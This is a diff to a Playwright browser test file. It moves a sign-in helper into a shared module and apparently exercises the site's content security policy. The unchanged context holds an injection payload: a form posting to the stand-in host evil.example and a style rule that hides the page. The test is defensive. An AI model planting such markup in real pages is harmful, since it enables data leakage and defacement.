@@ -6,7 +6,8 @@ import pytest
 from playwright.sync_api import Page, Route
 from pytest_django.live_server_helper import LiveServer
 
-from threadline.kernel.testing import PASSWORD, World
+from tests.browser.signing import sign_in, sign_in_by_form
+from threadline.kernel.testing import World
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -18,14 +19,6 @@ INJECTED = (
     "<form action='https://evil.example/'><button id='leak'>leak</button></form>"
     "<style>body { display: none }</style>"
 )
-
-
-def sign_in(page: Page, server: LiveServer, email: str) -> None:
-    page.goto(f"{server.url}/accounts/login/")
-    page.fill("[name=login]", email)
-    page.fill("[name=password]", PASSWORD)
-    page.click("main button[type=submit]")
-    page.wait_for_url("**/w/**")
 
 
 def inject(route: Route) -> None:
@@ -55,7 +48,7 @@ def test_our_own_pages_break_no_policy(page: Page, live_server: LiveServer, worl
     said: list[str] = []
     page.on("console", lambda message: said.append(f"{page.url}: {message.text}"))
     page.on("pageerror", lambda error: said.append(f"{page.url}: {error}"))
-    sign_in(page, live_server, world.user("owner").email)
+    sign_in_by_form(page, live_server, world.user("owner").email)
     paths = ["", "features/", feature.key, f"{feature.key}/edit", "review", "members", "settings", "profile", "tokens"]
     for path in paths:
         page.goto(f"{live_server.url}/w/north/{path}")
